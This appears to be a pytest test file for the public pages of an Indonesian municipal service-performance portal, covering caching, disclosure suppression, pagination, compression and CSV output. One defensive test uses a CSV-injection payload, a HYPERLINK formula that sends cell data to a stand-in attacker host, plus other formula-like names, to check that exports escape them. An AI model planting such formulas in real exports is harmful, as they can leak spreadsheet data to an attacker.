"""Public pages: three renderings of one dict, caching, no cookies, disclosure on the output."""

import json
import random
import threading
import time
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kinerja import demo
from kinerja.db import database
from kinerja.formatting import format_number
from kinerja.models.kiosk import KioskResponse
from kinerja.models.org import Employee
from kinerja.models.public import PublicSnapshot, PublicUnitFigure
from kinerja.queries import public_overview
from kinerja.scoring import METHOD_VERSION
from kinerja.services.publish import publish
from portal import create_app
from portal.public.views import Memo
from tests.builders import make_unit
from tests.builders_public import (
    add_answers,
    add_evaluations,
    add_requests,
    make_period,
    make_service_type,
    noon,
)
from tests.html import check_page, find_all, texts
from tests.public_checks import (
    check_csv,
    check_overview_json,
    check_unit_json,
    csv_dicts,
    csv_number,
    loads,
)

PAGES = ["/publik", "/publik/unit/DUKCAPIL", "/publik/metode", "/publik/data"]


def _twin(url: str, fmt: str) -> str:
    path, _, query = url.partition("?")
    return f"{path}.{fmt}" + (f"?{query}" if query else "")


@pytest.fixture
def published(world):
    """A closed quarter and the current one, with answers, requests and evaluations."""
    q1 = make_period(2026, 1, status="DITUTUP")
    q2 = make_period(2026, 2)
    opd, seksi, bidang = world.units["opd"], world.units["seksi"], world.units["bidang"]
    add_answers(opd, date(2026, 4, 6), 25)
    add_answers(opd, date(2026, 5, 6), 25, values=(3,) * 9)
    add_answers(seksi, date(2026, 5, 7), 3)
    service = make_service_type(opd)
    add_requests(service, noon(date(2026, 4, 6)), 30)
    add_requests(make_service_type(opd, "Akta Kelahiran"), noon(date(2026, 4, 7)), 6)
    add_evaluations(bidang, q1, {"BAIK": 14, "SANGAT_BAIK": 2, "BUTUH_PERBAIKAN": 1})
    publish(q1)
    publish(q2)
    return {"q1": q1, "q2": q2}


def test_every_page_is_valid_html_with_alternates_and_download_links(client, published):
    for url in PAGES:
        response = client.get(url)
        assert response.status_code == 200, url
        tree = check_page(response.get_data(as_text=True))
        alternates = {
            link.get("type"): link.get("href") for link in find_all(tree, "link", rel="alternate")
        }
        assert alternates == {"application/json": _twin(url, "json"), "text/csv": _twin(url, "csv")}
        hrefs = [a.get("href") for a in tree.iter("a")]
        assert _twin(url, "csv") in hrefs and _twin(url, "json") in hrefs
        footer = "".join(texts(tree, "footer"))
        assert "CC BY 4.0" in footer and f"Versi {METHOD_VERSION}" in footer
        assert not list(tree.iter("script"))  # works without JavaScript


def test_the_three_renderings_carry_the_same_figures(client, published):
    data = loads(client.get("/publik/unit/DUKCAPIL.json"))
    assert data["ikm"]["n"] == 53 and data["ikm"]["status"] == "OK"
    rows = list(csv_dicts(client.get("/publik/unit/DUKCAPIL.csv").get_data(as_text=True)))
    ikm_row = next(r for r in rows if r["bagian"] == "ikm" and r["ukuran"] == "ikm_konversi")
    assert csv_number(ikm_row["nilai"]) == Decimal(repr(data["ikm"]["nilai"]))
    assert ikm_row["n"] == "53"
    html = client.get("/publik/unit/DUKCAPIL").get_data(as_text=True)
    assert format_number(data["ikm"]["nilai"], 2) in html


def test_withheld_and_no_data_read_differently(client, published):
    data = loads(client.get("/publik/unit/DUKCAPIL.json"))
    types = {t["nama"]: t for t in data["jenis_layanan"]}
    assert types["Akta Kelahiran"]["keterangan"] == "data ditahan (n < 10)"
    assert types["Akta Kelahiran"]["n"] is None and types["Akta Kelahiran"]["nilai"] is None
    # hiding Akta (6) alone would let 36 − 30 reveal it: the other row is hidden too
    assert types["Penerbitan KTP-el"]["status"] == "SUPPRESSED"
    q1 = loads(client.get(f"/publik/unit/DUKCAPIL.json?periode={published['q1'].id}"))
    assert q1["ikm"]["keterangan"] == "belum ada data"
    html = client.get("/publik/unit/DUKCAPIL").get_data(as_text=True)
    assert "data ditahan (n &lt; 10)" in html


def test_predikat_distribution_hides_small_counts_on_the_page(client, published):
    tree = check_page(client.get("/publik/unit/DUKCAPIL.PDP").get_data(as_text=True))
    cells = [el.text for el in find_all(tree, "span", class_="fig-held")]
    assert "≤4" in cells
    data = loads(client.get("/publik/unit/DUKCAPIL.PDP.json"))
    assert data["predikat"]["total"] == 17
    assert check_unit_json(data) == []


def test_rolled_unit_links_to_its_parent(client, published):
    data = loads(client.get("/publik/unit/DUKCAPIL.PDP.ID.json"))
    assert data["ikm"]["status"] == "ROLLED"
    assert data["ikm"]["digabung_ke"] == {"kode": "DUKCAPIL", "nama": "Disdukcapil"}
    html = client.get("/publik/unit/DUKCAPIL.PDP.ID").get_data(as_text=True)
    assert 'href="/publik/unit/DUKCAPIL"' in html


def test_conditional_get_gets_304_and_responses_are_cacheable(client, published):
    for url in PAGES + [_twin(p, "json") for p in PAGES] + [_twin(p, "csv") for p in PAGES]:
        first = client.get(url)
        assert first.headers["Cache-Control"] == "public, max-age=300", url
        etag = first.headers["ETag"]
        again = client.get(url, headers={"If-None-Match": etag})
        assert again.status_code == 304, url
        assert again.data == b""


def test_a_page_missing_from_the_memo_is_rendered_once_for_threads_asking_at_once():
    memo, calls, started = Memo(), [], threading.Event()

    def make():
        calls.append(1)
        started.set()
        time.sleep(0.05)  # the others arrive while it renders
        return ("text/html", b"page", b"gz")

    results = []
    threads = [
        threading.Thread(target=lambda: results.append(memo.get_or_make("k", make)))
        for _ in range(8)
    ]
    threads[0].start()
    started.wait(5)
    for t in threads[1:]:
        t.start()
    for t in threads:
        t.join(5)
    assert len(calls) == 1
    assert results == [("text/html", b"page", b"gz")] * 8
    assert memo.renderings == {}
    assert memo.get_or_make("k", make) == results[0] and len(calls) == 1


def test_no_cookie_is_set_on_public_pages(app, client, published, world):
    urls = PAGES + [_twin(p, "json") for p in PAGES] + ["/publik/unit/TIDAK-ADA"]
    for url in urls:
        response = client.get(url)
        assert "Set-Cookie" not in response.headers, url
        assert "Cookie" not in response.headers.get("Vary", ""), url
    logged_in = app.test_client()
    account = world.accounts["pegawai"]
    with logged_in.session_transaction() as session:
        session["_user_id"] = f"{account.id}.{account.session_nonce}"
    response = logged_in.get("/publik")
    assert "Set-Cookie" not in response.headers
    assert response.headers["Cache-Control"] == "public, max-age=300"
    assert "Pegawai Uji" not in response.get_data(as_text=True)  # same page for everyone


def test_raw_data_changes_show_only_after_publishing(client, published):
    before = client.get("/publik/unit/DUKCAPIL.json").get_data(as_text=True)
    add_answers(_unit("DUKCAPIL"), date(2026, 5, 8), 40)
    assert client.get("/publik/unit/DUKCAPIL.json").get_data(as_text=True) == before
    publish(published["q2"])
    after = loads(client.get("/publik/unit/DUKCAPIL.json"))
    assert after["ikm"]["n"] == 93


def _unit(code):
    from kinerja.models.org import Unit

    return Unit.get(Unit.code == code)


def test_overview_sorts_by_column_with_links(client, published):
    data = loads(client.get("/publik.json?urut=ikm&arah=turun"))
    values = [u["ikm"]["nilai"] for u in data["unit"] if u["ikm"]["nilai"] is not None]
    assert values == sorted(values, reverse=True)
    tree = check_page(client.get("/publik?urut=ikm&arah=turun").get_data(as_text=True))
    sorted_th = [th for th in tree.iter("th") if th.get("aria-sort")]
    assert [th.get("aria-sort") for th in sorted_th] == ["descending"]
    assert find_all(tree, "{http://www.w3.org/2000/svg}svg", class_="sparkline")


def test_unknown_unit_or_period_is_404(client, published):
    assert client.get("/publik/unit/TIDAK-ADA").status_code == 404
    assert client.get("/publik?periode=987654").status_code == 404
    assert client.get("/publik?periode=abc").status_code == 404


def test_pages_before_any_publication(client, world):
    response = client.get("/publik")
    assert response.status_code == 200
    assert "Belum ada data yang diterbitkan" in response.get_data(as_text=True)
    assert loads(client.get("/publik.json"))["unit"] == []


def test_method_page_renders_the_method_text(client, world):
    tree = check_page(client.get("/publik/metode").get_data(as_text=True))
    headings = texts(tree, "h2") + texts(tree, "h3")
    assert "Indeks Kepuasan Masyarakat (IKM)" in headings
    assert "Kecukupan jumlah responden" in headings
    body = "".join(tree.find(".//main").itertext())
    assert "**" not in body and "PermenPANRB Nomor 14 Tahun 2017" in body
    assert list(tree.iter("table")) and list(tree.iter("strong"))


def _method_paragraph_with(tree, needle: str) -> str:
    for el in tree.find(".//main").iter():
        if el.tag not in ("p", "li"):
            continue
        text = " ".join("".join(el.itertext()).split())
        if needle in text:
            return text
    raise AssertionError(f"no paragraph with {needle!r} on the method page")


def test_method_page_states_the_rules_the_code_applies(client, world):
    """Issue 18: kuadran source, Krejcie–Morgan rounding, capaian by arah for every aspek."""
    tree = check_page(client.get("/publik/metode").get_data(as_text=True))
    kuadran = _method_paragraph_with(tree, "Predikat mengikuti kuadran kinerja")
    assert "PermenPANRB 6/2022" in kuadran and "3/2023" not in kuadran
    sample = _method_paragraph_with(tree, "χ² = 3,841")
    assert "dibulatkan ke atas" not in sample and "bilangan bulat terdekat" in sample
    assert "N = 50 → 44" in sample and "N = 500 → 217" in sample
    rule = _method_paragraph_with(tree, "Capaian")
    assert "aspek Waktu, dibalik" not in rule
    assert "untuk semua aspek" in rule


def test_catalogue_lists_every_download_with_licence_and_dictionary(client, published):
    data = loads(client.get("/publik/data.json"))
    assert data["lisensi"]["kode"] == "CC-BY-4.0"
    units = [d for d in data["dataset"] if d["halaman"] == "unit"]
    assert {d["kode"] for d in units} >= {"DUKCAPIL", "DUKCAPIL.PDP.ID"}
    for item in data["dataset"]:
        for url in item["url"].values():
            assert client.get(url).status_code == 200, url
    assert any(k["kolom"] == "status" for k in data["kamus"])


def test_login_page_links_to_the_citizens_home(client):
    tree = check_page(client.get("/masuk").get_data(as_text=True))
    hrefs = [a.get("href") for a in tree.iter("a")]
    assert "/publik/beranda" in hrefs and "/publik" not in hrefs


def test_admin_publishes_and_auditor_only_reads(client, login_as, world):
    period = make_period(2026, 1)
    login_as(world.accounts["auditor"])
    page = client.get("/admin/publikasi")
    assert page.status_code == 200 and "Terbitkan data publik" not in page.get_data(as_text=True)
    assert client.post("/admin/publikasi", data={"period": period.id}).status_code == 403
    login_as(world.accounts["admin"])
    response = client.post("/admin/publikasi", data={"period": period.id})
    assert response.status_code == 303
    assert PublicSnapshot.select().count() == 1
    assert client.post("/admin/publikasi", data={"period": "x"}).status_code == 422
    assert client.post("/admin/publikasi", data={"period": "777777"}).status_code == 422


# --- disclosure on the output of random data and of the seeded demo --------------------------


def _all_output_problems(client) -> list[str]:
    problems = []
    for snapshot in list(PublicSnapshot.select()):
        query = f"?periode={snapshot.period_id}"
        overview = loads(client.get(f"/publik.json{query}"))
        problems += check_overview_json(overview)
        min_n, small = overview["asal"]["ambang_n"], overview["asal"]["jumlah_kecil_maks"]
        problems += check_csv(
            client.get(f"/publik.csv{query}").get_data(as_text=True), min_n, small
        )
        codes = [
            r.code for r in PublicUnitFigure.select().where(PublicUnitFigure.snapshot == snapshot)
        ]
        for code in codes:
            problems += check_unit_json(loads(client.get(f"/publik/unit/{code}.json{query}")))
            text = client.get(f"/publik/unit/{code}.csv{query}").get_data(as_text=True)
            problems += check_csv(text, min_n, small)
    return problems


def _personal_data_problems(client) -> list[str]:
    outputs = []
    for snapshot in list(PublicSnapshot.select()):
        query = f"?periode={snapshot.period_id}"
        codes = [
            r.code for r in PublicUnitFigure.select().where(PublicUnitFigure.snapshot == snapshot)
        ]
        for url in ["/publik", "/publik/data"] + [f"/publik/unit/{c}" for c in codes]:
            for fmt in (None, "json", "csv"):
                target = (_twin(url, fmt) if fmt else url) + query
                outputs.append(client.get(target).get_data(as_text=True))
    text = "\n".join(outputs)
    problems = [f"NIP {e.nip}" for e in Employee.select() if e.nip in text]
    problems += [f"name {e.name}" for e in Employee.select() if len(e.name) > 8 and e.name in text]
    comments = {r.comment for r in KioskResponse.select(KioskResponse.comment) if r.comment}
    problems += [f"comment {c}" for c in comments if c in text]
    return problems


@pytest.mark.parametrize("seed", [1, 2, 3, 4])
def test_random_data_never_publishes_small_groups(client, world, seed):
    rng = random.Random(seed)
    closed = make_period(2026, 1, status="DITUTUP")
    current = make_period(2026, 2)
    units = [world.units[k] for k in ("opd", "bidang", "seksi")]
    for unit in units:
        for month in (1, 2, 4, 5, 6):
            add_answers(
                unit,
                date(2026, month, rng.randint(1, 28)),
                rng.choice([0, 1, 3, 6, 9, 10, 14, 30]),
                values=tuple(rng.choice([None, 1, 2, 3, 4]) for _ in range(9)),
            )
        for name in ("Layanan A", "Layanan B", "Layanan C"):
            if rng.random() < 0.7:
                service = make_service_type(unit, name)
                add_requests(service, noon(date(2026, 5, rng.randint(1, 28))), rng.randint(0, 14))
        counts = {
            p: rng.choice([0, 0, 1, 2, 4, 5, 8])
            for p in ("SANGAT_BAIK", "BAIK", "BUTUH_PERBAIKAN", "KURANG", "SANGAT_KURANG")
        }
        add_evaluations(unit, closed, counts)
    publish(closed)
    publish(current)
    assert _all_output_problems(client) == []
    assert _personal_data_problems(client) == []


@pytest.fixture(scope="module")
def demo_app(tmp_path_factory):
    """The seeded Sibolga demo (its last step publishes the snapshots) in an app."""
    path = tmp_path_factory.mktemp("publik") / "demo.sqlite3"
    application = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "uji",
            "DATABASE_URL": f"sqlite:///{path}",
            "PASSWORD_COST": "fast",
            "DEMO_BANNER": "1",
        }
    )
    from kinerja import migrations

    with database.connection_context():
        migrations.upgrade()
        demo.seed()
    yield application


def test_seeded_demo_output_never_reveals_small_groups_or_people(demo_app):
    from kinerja.db import open_database

    open_database(demo_app.config["DATABASE_URL"])
    client = demo_app.test_client()
    with database.connection_context():
        assert _all_output_problems(client) == []
        assert _personal_data_problems(client) == []
        for url in PAGES[:1] + PAGES[2:]:
            check_page(client.get(url).get_data(as_text=True))


# --- the overview in pages of units ----------------------------------------------------------

NAV = "Halaman unit"
MANY = 60


@pytest.fixture
def many(client, world):
    """Sixty more public-service units, half with answers (distinct IKM), one period published."""
    earlier, period = make_period(2026, 1, status="DITUTUP"), make_period(2026, 2)
    for i in range(MANY):
        unit = make_unit(
            f"UPTD Layanan Uji {i:02d}",
            code=f"UJI-{i:02d}",
            kind="UPT",
            parent=world.units["opd"],
            serves_public=True,
            short_name=f"Layanan Uji {i:02d}",
        )
        if i % 2:
            values = (1 + i % 4, 2 + i % 3, 3, 4, 2 + i % 2, 3, 4, 1 + i % 4, 3)
            add_answers(unit, date(2026, 4, 6), 12, values=values)
    publish(earlier)
    publish(period)
    units = loads(client.get("/publik.json"))["unit"]
    assert len(units) > 2 * public_overview.PAGE_SIZE
    return {"period": period, "units": units}


def _rows(tree) -> list[str]:
    """The unit names of the overview's rows, in order."""
    table = find_all(tree, "table")[0]
    return ["".join(th.find("a").itertext()) for th in table.iter("th") if th.get("scope") == "row"]


def _nav(tree):
    navs = [n for n in tree.iter("nav") if n.get("aria-label") == NAV]
    return navs[0] if navs else None


def _name(el) -> str:
    """The text a screen reader reads: without ``aria-hidden`` parts, spaces collapsed."""

    def parts(node):
        if node.get("aria-hidden") == "true":
            return
        yield node.text or ""
        for child in node:
            yield from parts(child)
            yield child.tail or ""

    return " ".join("".join(parts(el)).split())


def _links(nav) -> list[tuple[str, str, str | None]]:
    """(accessible name, href, aria-current) of every link in the page nav."""
    return [(_name(a), a.get("href"), a.get("aria-current")) for a in nav.iter("a")]


def _count(tree) -> str:
    (count,) = find_all(tree, "p", class_="page-count")
    return " ".join("".join(count.itertext()).split())


def test_overview_shows_a_page_of_units_with_count_and_page_links(client, many):
    size, units = public_overview.PAGE_SIZE, many["units"]
    total, pages = len(units), public_overview.page_count(len(units))
    names = [u["nama_singkat"] for u in units]
    seen = []
    for number in range(1, pages + 1):
        url = "/publik" if number == 1 else f"/publik?halaman={number}"
        tree = check_page(client.get(url).get_data(as_text=True))
        rows = _rows(tree)
        first, last = (number - 1) * size + 1, min(number * size, total)
        assert len(rows) == last - first + 1 <= size
        assert _count(tree) == f"Menampilkan {first}–{last} dari {total} unit"
        links = _links(_nav(tree))
        current = [link for link in links if link[2]]
        assert current == [(f"Halaman {number}", url, "page")]
        hrefs = {text: href for text, href, _ in links}
        assert hrefs.get("Sebelumnya") == (
            None if number == 1 else "/publik" if number == 2 else f"/publik?halaman={number - 1}"
        )
        assert hrefs.get("Berikutnya") == (
            None if number == pages else f"/publik?halaman={number + 1}"
        )
        assert hrefs["Halaman 1"] == "/publik"  # page 1 has one address
        assert hrefs[f"Halaman {pages}"] == f"/publik?halaman={pages}"
        seen += rows
        if number > 1:
            assert f"Ringkasan kota, halaman {number}" in "".join(texts(tree, "title"))
    assert seen == names  # every unit once, in the order of the whole list
    assert client.get("/publik?halaman=1").data == client.get("/publik").data


def test_sorting_applies_to_the_whole_list_then_the_page_is_cut(client, many):
    size = public_overview.PAGE_SIZE
    period = many["period"].id
    query = f"periode={period}&urut=ikm&arah=turun"
    units = loads(client.get(f"/publik.json?{query}"))["unit"]
    values = [u["ikm"]["nilai"] for u in units if u["ikm"]["nilai"] is not None]
    assert values == sorted(values, reverse=True) and len(values) > size
    tree = check_page(client.get(f"/publik?{query}&halaman=2").get_data(as_text=True))
    assert _rows(tree) == [u["nama_singkat"] for u in units[size : 2 * size]]
    # Every page link keeps the period and the sort.
    for text, href, _ in _links(_nav(tree)):
        assert f"periode={period}" in href and "urut=ikm" in href and "arah=turun" in href, text
    # The column headers start the new order on page 1; the period form keeps the sort only.
    heads = [
        th.find("a").get("href")
        for th in tree.iter("th")
        if th.get("scope") == "col" and th.find("a") is not None
    ]
    assert heads and all("halaman" not in h and f"periode={period}" in h for h in heads)
    form = next(f for f in tree.iter("form") if "period-picker" in (f.get("class") or ""))
    fields = {i.get("name"): i.get("value") for i in form.iter("input")}
    assert fields == {"urut": "ikm", "arah": "turun"}


def test_twins_stay_complete_and_carry_no_page(client, many):
    total = len(many["units"])
    tree = check_page(client.get("/publik?urut=n&halaman=2").get_data(as_text=True))
    alternates = {
        link.get("type"): link.get("href") for link in find_all(tree, "link", rel="alternate")
    }
    assert alternates == {
        "application/json": "/publik.json?urut=n",
        "text/csv": "/publik.csv?urut=n",
    }
    data = loads(client.get(alternates["application/json"]))
    assert len(data["unit"]) == total and "paginasi" not in data
    assert data == loads(client.get("/publik.json?urut=n&halaman=2"))  # a page changes nothing
    rows = csv_dicts(client.get(alternates["text/csv"]).get_data(as_text=True))
    assert {r["kode_unit"] for r in rows if r["bagian"] == "ikm"} == {
        u["kode"] for u in data["unit"]
    }


@pytest.mark.parametrize("key", public_overview.SORT_KEYS)
@pytest.mark.parametrize("descending", [False, True])
def test_pages_cut_in_sql_follow_the_complete_list(many, key, descending):
    # SQL sorts and cuts each page; together the pages are the twins' list, in order.
    complete = [u["kode"] for u in public_overview.overview(None, key, descending)["unit"]]
    pages = public_overview.page_count(len(complete))
    paged = [
        u["kode"]
        for page in range(1, pages + 1)
        for u in public_overview.overview(None, key, descending, page)["unit"]
    ]
    assert paged == complete


def test_a_bad_or_missing_page_is_404(client, many):
    pages = public_overview.page_count(len(many["units"]))
    for value in ("0", "abc", "-1", "", " 2", "1.5", "2x", "999999", "9" * 5000, str(pages + 1)):
        response = client.get("/publik", query_string={"halaman": value})
        assert response.status_code == 404, value
        assert "Halaman tidak ditemukan" in response.get_data(as_text=True)
    assert client.get(f"/publik.json?halaman={pages + 1}").status_code == 404
    assert client.get("/publik?halaman=1&halaman=2").status_code == 200  # the first one counts
    assert client.get(f"/publik?halaman={pages}").status_code == 200


def test_pages_of_units_are_cached_by_snapshot(client, many, count_queries):
    first = client.get("/publik?halaman=2&urut=ikm")
    with count_queries() as q:
        again = client.get("/publik?halaman=2&urut=ikm")
    assert again.data == first.data and again.headers["ETag"] == first.headers["ETag"]
    assert q.count == 1, str(q)  # the list of snapshots: nothing renders again
    assert client.get("/publik?halaman=0").status_code == 404


def test_a_304_is_answered_before_anything_renders(client, published, count_queries):
    for url in PAGES + ["/publik.json", "/publik/unit/DUKCAPIL.csv"]:
        etag = client.get(url).headers["ETag"]
        client.application.extensions["kinerja_public_memo"].clear()
        with count_queries() as q:
            again = client.get(url, headers={"If-None-Match": etag})
        assert again.status_code == 304 and q.count == 1, (url, str(q))
        assert again.headers["Cache-Control"] == "public, max-age=300"


def test_unknown_or_invalid_parameters_cannot_force_a_render(client, published, count_queries):
    first = client.get("/publik?urut=ikm")
    for url in ("/publik?urut=ikm&x=1", "/publik?x=2&urut=ikm&utm=abc", "/publik?urut=ikm&arah="):
        with count_queries() as q:
            response = client.get(url)
        assert response.data == first.data and q.count == 1, (url, str(q))
        assert response.headers["ETag"] == first.headers["ETag"]
    plain = client.get("/publik")
    assert client.get("/publik?urut=junk&arah=ke-samping").headers["ETag"] == plain.headers["ETag"]
    assert "x=1" not in client.get("/publik?x=1").get_data(as_text=True)
    assert client.get("/publik.json?x=1").data == client.get("/publik.json").data


def test_a_new_publish_changes_the_etag_and_the_page(client, published):
    before = client.get("/publik/unit/DUKCAPIL.json")
    add_answers(_unit("DUKCAPIL"), date(2026, 5, 8), 40)
    assert client.get("/publik/unit/DUKCAPIL.json").data == before.data
    publish(PublicSnapshot.select().order_by(PublicSnapshot.id.desc()).first().period)
    after = client.get(
        "/publik/unit/DUKCAPIL.json", headers={"If-None-Match": before.headers["ETag"]}
    )
    assert after.status_code == 200 and after.headers["ETag"] != before.headers["ETag"]
    assert after.data != before.data


def test_text_responses_are_compressed_for_clients_that_accept_gzip(client, published):
    import gzip

    for url in ["/publik", "/publik.json", "/publik.csv", "/publik/metode"]:
        plain = client.get(url)
        packed = client.get(url, headers={"Accept-Encoding": "gzip, deflate"})
        assert plain.status_code == packed.status_code == 200, url
        assert "Content-Encoding" not in plain.headers, url
        assert packed.headers["Content-Encoding"] == "gzip", url
        assert "Accept-Encoding" in packed.headers["Vary"], url
        assert gzip.decompress(packed.data) == plain.data, url
    missing = client.get("/publik/unit/TIDAK-ADA", headers={"Accept-Encoding": "gzip"})
    assert missing.status_code == 404 and "Content-Encoding" not in missing.headers
    etag = client.get("/publik").headers["ETag"]
    not_modified = client.get("/publik", headers={"If-None-Match": etag, "Accept-Encoding": "gzip"})
    assert not_modified.status_code == 304 and not_modified.data == b""


def test_pages_with_a_csrf_token_are_never_compressed(client, published, login_as, world):
    """BREACH: a compressed page holding a secret next to attacker-chosen text leaks it."""
    login = client.get("/masuk?next=/publik", headers={"Accept-Encoding": "gzip"})
    assert login.status_code == 200 and len(login.data) > 1024
    assert "Content-Encoding" not in login.headers
    home = login_as(world.accounts["pegawai"]).get(
        "/", headers={"Accept-Encoding": "gzip"}, follow_redirects=True
    )
    assert home.status_code == 200 and len(home.data) > 1024
    assert "Content-Encoding" not in home.headers


def test_many_pages_show_first_last_and_a_window_with_ellipses(client, many, monkeypatch):
    monkeypatch.setattr(public_overview, "PAGE_SIZE", 3)
    total = len(many["units"])
    pages = public_overview.page_count(total)
    assert pages > 12
    tree = check_page(client.get("/publik?halaman=7&arah=naik").get_data(as_text=True))
    nav = _nav(tree)
    numbers = [text.removeprefix("Halaman ") for text, _, _ in _links(nav)]
    assert numbers == ["Sebelumnya", "1", "5", "6", "7", "8", "9", str(pages), "Berikutnya"]
    items = [" ".join("".join(li.itertext()).split()) for li in nav.iter("li")]
    assert items[1:4] == ["Halaman 1", "…", "Halaman 5"] and items[-3:-1] == [
        "…",
        f"Halaman {pages}",
    ]
    gaps = [li for li in nav.iter("li") if li.get("class") == "page-gap"]
    assert len(gaps) == 2 and all(li.get("aria-hidden") == "true" for li in gaps)
    assert _count(tree) == f"Menampilkan 19–21 dari {total} unit"
    assert len(_rows(tree)) == 3


def test_one_page_has_the_count_but_no_page_nav(client, published):
    tree = check_page(client.get("/publik").get_data(as_text=True))
    total = len(loads(client.get("/publik.json"))["unit"])
    assert 0 < total <= public_overview.PAGE_SIZE
    assert _count(tree) == f"Menampilkan 1–{total} dari {total} unit"
    assert _nav(tree) is None
    assert client.get("/publik?halaman=2").status_code == 404


@given(pages=st.integers(1, 400), data=st.data(), window=st.integers(0, 4))
def test_page_numbers_show_first_last_current_and_mark_every_gap(pages, data, window):
    current = data.draw(st.integers(1, pages))
    shown = public_overview.page_numbers(current, pages, window)
    numbers = [n for n in shown if n is not None]
    assert numbers == sorted(set(numbers)) and numbers[0] == 1 and numbers[-1] == pages
    assert set(range(max(1, current - window), min(pages, current + window) + 1)) <= set(numbers)
    assert shown[0] is not None and shown[-1] is not None
    for i, item in enumerate(shown):
        if item is None:  # an ellipsis always hides two pages or more
            assert shown[i + 1] - shown[i - 1] > 2
        elif i and shown[i - 1] is not None:  # no page is skipped without an ellipsis
            assert item == shown[i - 1] + 1
    assert len(shown) <= 2 * window + 5


def test_a_views_own_not_found_message_is_shown(client, world):
    response = client.get("/publik?periode=999999")
    assert response.status_code == 404
    assert "Periode tidak ditemukan." in response.get_data(as_text=True)
    # werkzeug's English default text never reaches a person.
    other = client.get("/tidak-ada-halaman-ini")
    assert other.status_code == 404
    assert "The requested URL" not in other.get_data(as_text=True)


def test_public_csv_twins_neutralise_formulas_in_unit_and_service_names(client, world):
    """A unit or service named like a formula is text in every public CSV (as in the
    internal exports): a leading apostrophe; figures, negative numbers included, stay
    numbers (kinerja.formatting.csv_cell)."""
    from kinerja.formatting import FORMULA_START

    q1 = make_period(2026, 1, status="DITUTUP")
    opd = world.units["opd"]
    opd.name = '=HYPERLINK("http://penyerang.example/?d="&A1;"Klik")'
    opd.save()
    add_answers(opd, date(2026, 2, 6), 25)
    for name in ("@SUM(1+1)", "+62 Layanan", "-2+3", "\t=1+1", "\r=1+1"):
        add_requests(make_service_type(opd, name), noon(date(2026, 2, 6)), 12)
    publish(q1)
    for url in ("/publik.csv", f"/publik/unit/{opd.code}.csv", "/publik/data.csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        for row in csv_dicts(response.get_data(as_text=True)):
            for column, cell in row.items():
                if cell and cell.startswith(FORMULA_START):
                    assert column in ("nilai", "n") and csv_number(cell) is not None, (url, row)
    unit_rows = csv_dicts(client.get(f"/publik/unit/{opd.code}.csv").get_data(as_text=True))
    assert {r["nama_unit"] for r in unit_rows} == {"'" + opd.name}
    services = {r["rincian"] for r in unit_rows if r["bagian"] == "jenis_layanan"}
    assert "'@SUM(1+1) (standar 1 hari kerja)" in services
    assert "'-2+3 (standar 1 hari kerja)" in services


# --- issue 18 item 3: service data and kiosk answers meet at one unit level -----------------


def _demo_snapshots(demo_app):
    from kinerja.db import open_database

    open_database(demo_app.config["DATABASE_URL"])
    return list(PublicSnapshot.select().order_by(PublicSnapshot.period_start))


def test_demo_every_published_ikm_has_service_users_sample_and_verdict(demo_app):
    with database.connection_context():
        snapshots = _demo_snapshots(demo_app)
        assert snapshots
        missing = []
        for snapshot in snapshots:
            rows = PublicUnitFigure.select().where(PublicUnitFigure.snapshot == snapshot)
            for row in rows:
                if row.ikm_status != "OK":
                    continue
                if row.population is None or row.sample_size is None or row.sample_reached is None:
                    missing.append(f"{snapshot.period_name} {row.code} n={row.ikm_n}")
        assert missing == []


def test_demo_snapshots_show_the_city_ikm_with_respondents_per_channel(demo_app):
    """Issue 22: every demo quarter has a city IKM with mutu, over kiosk and phone answers;
    it covers at least the top units shown, and the home shows it with its meaning."""
    with database.connection_context():
        snapshots = _demo_snapshots(demo_app)
        for snapshot in snapshots:
            assert snapshot.city_ikm_status == "OK", snapshot.period_name
            assert snapshot.city_mutu in "ABCD" and snapshot.city_ikm_konversi is not None
            assert snapshot.city_kiosk_n > 0 and snapshot.city_phone_n > 0
            assert snapshot.city_kiosk_n + snapshot.city_phone_n == snapshot.city_ikm_n
            rows = PublicUnitFigure.select().where(PublicUnitFigure.snapshot == snapshot)
            parent = {r.code: r.parent_code for r in rows}
            ok = {r.code for r in rows if r.ikm_status == "OK"}

            def under_shown(code, parent=parent, ok=ok):
                code = parent.get(code, "")
                while code:
                    if code in ok:
                        return True
                    code = parent.get(code, "")
                return False

            tops = [r for r in rows if r.code in ok and not under_shown(r.code)]
            assert snapshot.city_units == len(tops)
            shown_n = sum(r.ikm_n for r in tops)
            if snapshot.city_scope == "SHOWN":
                assert snapshot.city_ikm_n == shown_n
            else:
                assert snapshot.city_ikm_n == shown_n or snapshot.city_ikm_n - shown_n >= 10
        home = loads(demo_app.test_client().get("/publik/beranda.json"))
        city = home["utama"]["ikm_kota"]
        assert city["nilai"] is not None and city["arti_mutu"] and home["arti"]["ikm_kota"]


def test_demo_a_parent_never_contradicts_its_children(demo_app):
    problems = []
    with database.connection_context():
        for snapshot in _demo_snapshots(demo_app):
            min_n = json.loads(snapshot.thresholds)["public_min_n"]
            rows = {
                r.code: r
                for r in PublicUnitFigure.select().where(PublicUnitFigure.snapshot == snapshot)
            }
            for row in rows.values():
                where = f"{snapshot.period_name} {row.code}"
                for kind, n in (("ikm", "ikm_n"), ("svc", "svc_n")):
                    if getattr(row, f"{kind}_status") != "OK":
                        continue
                    parent = rows.get(row.parent_code) if row.parent_code else None
                    if row.parent_code and parent is None:
                        problems.append(f"{where} {kind}: parent has no row")
                    elif parent is not None:
                        if getattr(parent, f"{kind}_status") != "OK":
                            problems.append(f"{where} {kind}: parent not shown")
                        elif (getattr(parent, n) or 0) < (getattr(row, n) or 0):
                            problems.append(f"{where} {kind}: parent n < child n")
                    children = [
                        getattr(c, n)
                        for c in rows.values()
                        if c.parent_code == row.code and getattr(c, f"{kind}_status") == "OK"
                    ]
                    if getattr(row, n) is not None and all(c is not None for c in children):
                        rest = getattr(row, n) - sum(children)
                        if rest < 0 or 0 < rest < min_n:
                            problems.append(f"{where} {kind}: parent − children = {rest}")
    assert problems == []


def test_demo_seksi_identitas_penduduk_shows_service_users_and_timeliness(demo_app):
    with database.connection_context():
        snapshot = _demo_snapshots(demo_app)[-1]
        row = PublicUnitFigure.get(
            (PublicUnitFigure.snapshot == snapshot)
            & (PublicUnitFigure.code == "DISDUKCAPIL.PDP.IDP")
        )
        assert row.ikm_status == "OK" and row.population and row.sample_size
        assert row.svc_status == "OK" and row.svc_n > 100


def test_the_overview_shows_the_sample_verdict(demo_app):
    from kinerja.db import open_database

